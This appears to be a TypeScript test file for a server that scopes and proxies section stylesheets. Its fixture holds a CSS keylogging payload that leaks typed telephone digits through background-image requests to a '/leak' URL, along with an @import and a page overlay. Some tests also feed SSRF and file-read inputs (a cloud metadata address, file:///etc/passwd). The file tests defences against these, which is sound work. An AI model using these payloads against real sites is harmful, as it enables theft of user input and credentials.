import { createHash } from 'node:crypto';
import { linesLogger } from '@portico/platform/testing';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { scopedStylesheetAddress } from '@portico/contract/section-styles';
import { scopeSectionStylesheet } from '@portico/node-sections';
import { parseConfig, type SiteConfig } from '@portico/shared-config/config';
import { sampleConfig } from '@portico/testing/sample-config';
import { OnDemandStyles, type OnDemandStyleLimits } from '../scoped-on-demand';
import { writeAnswer } from '@portico/platform/http';

// A section's origin (a plain static server, which can be made slow) and the
// front server's on-demand answer for the page's origin, both on loopback:
// what a page whose section is rendered in the browser asks for (issue 46).

const sri = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;

/** Issue 46's stylesheet: a rule per character reading what is typed into Contact, an @import of unchecked CSS, an overlay on <body>. */
const HOSTILE = (origin: string) =>
  [
    `@import url(${origin}/live.css);`,
    ...[...'0123456789'].map((digit) => `#contact input[name=telephone][value$="${digit}"]{background-image:url(${origin}/leak?t=${digit})}`),
    'body:has(#contact:not([hidden]))::after{content:"";position:fixed;inset:0;z-index:2147483647}',
    '.home-hero{color:rgb(1, 2, 3)}',
  ].join('\n');

let files: Record<string, string>;
let requests: string[];
let delayMs: number;
let origin: Server;
let front: Server;
let sectionUrl: string;
let frontUrl: string;
let logged: string[];
let styles: OnDemandStyles;
let config: SiteConfig | undefined;

const listen = (server: Server) =>
  new Promise<string>((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));

function useStyles(limits: Partial<OnDemandStyleLimits> = {}, prepared?: ConstructorParameters<typeof OnDemandStyles>[0]['prepared']): void {
  styles = new OnDemandStyles({ log: linesLogger((line) => logged.push(line)), prepared }, limits);
}

beforeEach(async () => {
  requests = [];
  delayMs = 0;
  logged = [];
  origin = createServer((req, res) => {
    requests.push(req.url!);
    const body = files[req.url!];
    setTimeout(() => res.writeHead(body === undefined ? 404 : 200, { 'Content-Type': 'text/css' }).end(body), delayMs);
  });
  sectionUrl = await listen(origin);
  files = { '/home.css': HOSTILE(sectionUrl) };
  config = parseConfig({ ...sampleConfig, remotes: { ...sampleConfig.remotes, home: `${sectionUrl}/mf-manifest.json` } }).config;
  useStyles();
  front = createServer((req, res) => {
    const { pathname, search } = new URL(req.url!, 'http://x');
    if (styles.handles(pathname)) void styles.answer(req, pathname, search, config).then((answer) => writeAnswer(res, answer));
    else res.writeHead(418).end();
  });
  frontUrl = await listen(front);
});

afterEach(async () => {
  await Promise.all([origin, front].map((server) => new Promise((resolve) => server.close(resolve))));
});

const ask = (section: string, href: string, integrity = sri(files[new URL(href).pathname] ?? '')) =>
  fetch(`${frontUrl}${scopedStylesheetAddress({ section, href, integrity })}`, { headers: { 'Accept-Encoding': 'br' } });

test("issue 46's stylesheet, asked for by a page that renders Home in the browser: answered scoped to Home's slot, fetched once however many pages ask", async () => {
  const href = `${sectionUrl}/home.css`;
  const answers = await Promise.all(Array.from({ length: 8 }, () => ask('home', href)));
  const expected = scopeSectionStylesheet(HOSTILE(sectionUrl), { section: 'home', url: href, origin: sectionUrl }).css;
  for (const answer of answers) {
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/css; charset=utf-8');
    expect(answer.headers.get('content-encoding')).toBe('br');
    expect(await answer.text()).toBe(expected);
  }
  // Only the rule that stays in Home's slot is left: no @import, nothing reading Contact, no overlay on the page.
  expect(expected).toBe(':where([data-section-island="home"]) .home-hero{color:rgb(1, 2, 3)}');
  expect((await ask('home', href)).status).toBe(200);
  expect(requests).toEqual(['/home.css']);
  expect(logged).toEqual([expect.stringContaining(`the home section's stylesheet ${href}: 12 rules left out, which would reach outside its slot`)]);
});

test('no open proxy: another origin than the section’s, a section the page does not serve, an address that is not one, or no config.json: 404, nothing fetched', async () => {
  const href = `${sectionUrl}/home.css`;
  // Contact's manifest is on localhost:8083: Home's origin is not Contact's.
  expect((await ask('contact', href)).status).toBe(404);
  expect((await ask('calculator', href)).status).toBe(404);
  expect((await ask('home', 'http://169.254.169.254/latest/meta-data.css', sri('x'))).status).toBe(404);
  for (const query of [
    `href=${encodeURIComponent(href)}`,
    `href=${encodeURIComponent(href)}&href=x&integrity=${encodeURIComponent(sri('x'))}`,
    'href=file%3A%2F%2F%2Fetc%2Fpasswd&integrity=sha384-AAAA',
  ]) {
    expect((await fetch(`${frontUrl}/section-styles/of/home?${query}`)).status).toBe(404);
  }
  expect((await fetch(`${frontUrl}/section-styles/of/HOME?href=${encodeURIComponent(href)}&integrity=${encodeURIComponent(sri('x'))}`)).status).toBe(404);
  config = undefined;
  expect((await ask('home', href)).status).toBe(404);
  expect(requests).toEqual([]);
});

test('an override origin in allowedRemoteOrigins may serve any section’s stylesheet, scoped to that section', async () => {
  config = parseConfig({ ...sampleConfig, allowedRemoteOrigins: [sectionUrl] }).config;
  const answer = await ask('contact', `${sectionUrl}/home.css`);
  expect(answer.status).toBe(200);
  expect(await answer.text()).toContain(':where([data-section-island="contact"]) .home-hero');
});

test('bytes that do not match the hash, or over the size limit, are refused (the section goes without the stylesheet), logged, and refused again without a fetch for a while', async () => {
  const href = `${sectionUrl}/home.css`;
  const wrong = await ask('home', href, sri('.something-else{}'));
  expect(wrong.status).toBe(502);
  expect(await wrong.text()).toContain('could not be scoped');
  expect((await ask('home', href, sri('.something-else{}'))).status).toBe(502);
  expect(requests).toEqual(['/home.css']);
  expect(logged).toEqual([expect.stringContaining("The home section's stylesheet could not be scoped")]);

  useStyles({ maxBytes: 100 });
  expect((await ask('home', href)).status).toBe(502);
});

test('bounded: a few fetches at once and a few waiting; one more is refused at once (503), not queued', async () => {
  useStyles({ fetchesAtOnce: 1, waiting: 1 });
  delayMs = 300;
  for (const name of ['a', 'b', 'c']) files[`/${name}.css`] = `.${name}{color:red}`;
  const asked = (name: string) => styles.scoped({ section: 'home', href: `${sectionUrl}/${name}.css`, integrity: sri(files[`/${name}.css`]!) });
  // In one turn of the event loop: the first fetching, the second waiting, the third refused.
  const [first, second, third] = [asked('a'), asked('b'), asked('c')];
  expect(await third).toEqual({ status: 503, why: expect.stringContaining('Too many stylesheets') });
  expect(await Promise.all([first, second])).toEqual([
    expect.objectContaining({ identity: expect.any(Buffer) }),
    expect.objectContaining({ identity: expect.any(Buffer) }),
  ]);
  expect(requests).toEqual(['/a.css', '/b.css']);
  // A refusal for want of a turn is not remembered: asked again, it is scoped.
  expect((await ask('home', `${sectionUrl}/c.css`)).status).toBe(200);
});

test('a copy the server-rendered page’s preparation holds is answered without a fetch', async () => {
  const css = Buffer.from('.prepared{}');
  useStyles({}, ({ href }) => (href.endsWith('/home.css') ? { identity: css, br: css, gzip: css } : undefined));
  const answer = await fetch(`${frontUrl}${scopedStylesheetAddress({ section: 'home', href: `${sectionUrl}/home.css`, integrity: sri('x') })}`, {
    headers: { 'Accept-Encoding': 'identity' },
  });
  expect(await answer.text()).toBe('.prepared{}');
  expect(requests).toEqual([]);
});
